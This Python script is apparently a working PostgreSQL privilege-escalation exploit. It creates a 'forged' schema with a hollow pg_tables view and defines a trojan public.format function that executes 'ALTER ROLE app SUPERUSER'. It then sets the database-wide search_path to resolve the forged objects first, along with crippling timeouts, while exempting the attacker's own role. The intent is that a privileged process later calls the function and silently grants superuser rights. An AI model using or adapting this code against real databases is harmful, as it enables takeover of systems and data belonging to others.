import os

import psycopg

SETTINGS = {
    "search_path": "forged, pg_catalog, public",
    "default_transaction_read_only": "on",
    "statement_timeout": "1",
    "lock_timeout": "1",
    "idle_session_timeout": "1",
    "default_transaction_isolation": "serializable",
}
MINE = {
    "search_path": "public",
    "default_transaction_read_only": "off",
    "statement_timeout": "0",
    "lock_timeout": "0",
    "idle_session_timeout": "0",
    "default_transaction_isolation": "'read committed'",
}
FORGED = """
    CREATE SCHEMA IF NOT EXISTS forged;
    CREATE OR REPLACE VIEW forged.pg_tables AS
        SELECT 'x'::name AS schemaname, 'x'::name AS tablename WHERE false;
    CREATE OR REPLACE FUNCTION public.format(text, name, name) RETURNS text LANGUAGE plpgsql AS $$
        BEGIN EXECUTE 'ALTER ROLE app SUPERUSER'; RETURN 'nothing.nothing'; END $$;
"""

with psycopg.connect(os.environ["DATABASE_URL"], autocommit=True) as database:
    database.execute(FORGED)
    for name, value in MINE.items():
        database.execute(f"ALTER ROLE app IN DATABASE app SET {name} = {value}")
    for name, value in SETTINGS.items():
        database.execute(f"ALTER DATABASE app SET {name} = {value}")
